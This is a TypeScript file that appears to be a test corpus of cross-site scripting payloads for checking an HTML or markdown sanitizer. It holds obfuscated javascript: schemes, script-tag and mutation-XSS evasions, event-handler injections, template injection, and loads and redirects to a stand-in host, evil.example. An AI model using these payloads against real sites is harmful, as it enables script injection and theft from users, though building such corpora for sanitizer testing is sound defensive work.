const RUN = 'window.__x=1'
const AWAY = 'https://evil.example/x'

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'marquee',
]

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
  `//evil.example/x`,
  `\\\\evil.example/x`,
]

const RAW = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`,
  `<SCRIPT\n>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</p></main><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  `<iframe src="javascript:parent.window.__x=1"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<form action="${AWAY}"><button autofocus>x</button></form>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<audio src="${AWAY}.mp3" autoplay>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<input type=image src="${AWAY}.png">`,
  `<portal src="${AWAY}">`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${window.__x=1}',
  `'"><img src=x onerror=${RUN}>`,
  `"autofocus onfocus=${RUN} x="`,
  `';${RUN};'`,
  `<img id=location name=cookie>`,
]

const LINKS = SCHEMES.flatMap((url) => [
  `[a link](<${url}>)`,
  `![a picture](<${url}>)`,
  `<${url}>`,
  `[a reference][r]\n\n[r]: <${url}>`,
])
const HANDLERS = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${RUN}>`))

/** Text that has made scripts run or browsers call elsewhere, in one place or another. */
export const XSS_CORPUS: string[] = [...RAW, ...LINKS, ...HANDLERS]
